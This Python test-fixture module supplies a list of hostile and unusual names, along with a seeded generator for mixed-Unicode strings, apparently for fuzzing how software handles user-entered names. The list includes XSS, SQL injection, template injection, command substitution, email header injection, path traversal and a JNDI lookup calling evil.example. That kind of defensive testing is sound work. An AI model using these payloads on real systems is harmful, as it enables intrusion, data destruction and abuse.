"""Names nobody should have, and that somebody will type."""

import random

NAMES = (
    "",
    " ",
    "\t\n\r",
    "\x00",
    "Jane\x00Doe",
    "Jane\x07\x08\x1b[31mDoe",
    "Jane\r\nBcc: victim@example.org",
    "Jane\nSubject: you have won",
    "Jane\u2028Doe\u2029",
    "Jane\x85Doe",
    "\x7f\x80\x9f",
    "<script>alert(1)</script>",
    "<b>Jane</b>",
    "</td></tr></table>",
    '"><img src=x onerror=alert(1)>',
    "Jane & Joe",
    "&amp;&lt;&#60;",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x",
    "$(reboot)",
    "`id`",
    "'; DROP TABLE orders; --",
    "=HYPERLINK(1)",
    "+1+1",
    "@SUM(A1)",
    "../../etc/passwd",
    "C:\\CON",
    "TICKET:X|ORDER:Y|EVENT:Z|VALID:0",
    "(parenthesis",
    "parenthesis)",
    "back\\slash\\",
    ") Tj ET endstream endobj",
    "<< /Type /Catalog >>",
    "**bold** __underlined__ --struck--",
    "[link](https://evil.example)",
    "https://evil.example/win",
    "Win at evil.example",
    "www.evil.example",
    "victim@example.org",
    "a" * 5000,
    "a " * 5000,
    "Wolfeschlegelsteinhausenbergerdorff" * 3,
    "-" * 300,
    "O'Brien-Ní Dhúill, Ph.D.",
    "Žofie Dvořáková",
    "Ελένη Παπαδοπούλου",
    "Иван Ёлкин",
    "Nguyễn Thị Hương",
    "İstanbul ığüşöç",
    "Straße ẞ",
    "ﬁ ﬂ ﬃ",
    "محمد الفاتح",
    "שרה כהן",
    "王小明",
    "山田 太郎",
    "김민준",
    "สมชาย ใจดี",
    "अनुष्का शर्मा",
    "😀👩‍👩‍👧‍👦🏴‍☠️",
    "👍🏽",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "\u202eeoD enaJ",
    "\u2066Jane\u2069",
    "Jane\u200bDoe\u200d\ufeff",
    "\ud800 half a character",
    "\udfff",
    "\ue000\uf8ff",
    "\U0010ffff",
    "e\u0301\u0301\u0301",
    "\u0301",
    "\ufffd",
    "\u00a0\u3000\u2003",
    "ℵ₀∑∫√∞",
    "①②③",
    "\U0001d575\U0001d586\U0001d593\U0001d58a",
    "null",
    "None",
    "0",
)


def hostile_texts(count: int) -> list[str]:
    """Return all the names, and mixtures of letters of all planes; the same ones each time."""
    chance = random.Random(1)
    found = dict.fromkeys(NAMES)
    while len(found) < count:
        start = chance.choice(BLOCKS)
        letters = (chr(start + chance.randrange(128)) for _ in range(chance.randrange(1, 90)))
        found["".join(letters) + chance.choice(NAMES)[:40]] = None
    return list(found)[:count]


BLOCKS = (
    0x0, 0x80, 0x100, 0x300, 0x370, 0x400, 0x530, 0x590, 0x600, 0x700, 0x780, 0x900, 0x980, 0xE00,
    0x0F00, 0x1000, 0x10A0, 0x1100, 0x1780, 0x1F00, 0x2000, 0x2070, 0x2190, 0x2600, 0x3000, 0x30A0,
    0x4E00, 0x9F80, 0xA000, 0xAC00, 0xD7B0, 0xD800, 0xE000, 0xFB00, 0xFB80, 0xFE00, 0xFE70, 0xFF00,
    0xFF80, 0x10300, 0x1D400, 0x1F300, 0x1F600, 0x1F900, 0x20000, 0xE0000, 0x10FF80,
)  # fmt: skip
"""Where blocks of Unicode begin: scripts with and without fonts here, marks, halves, nothing."""
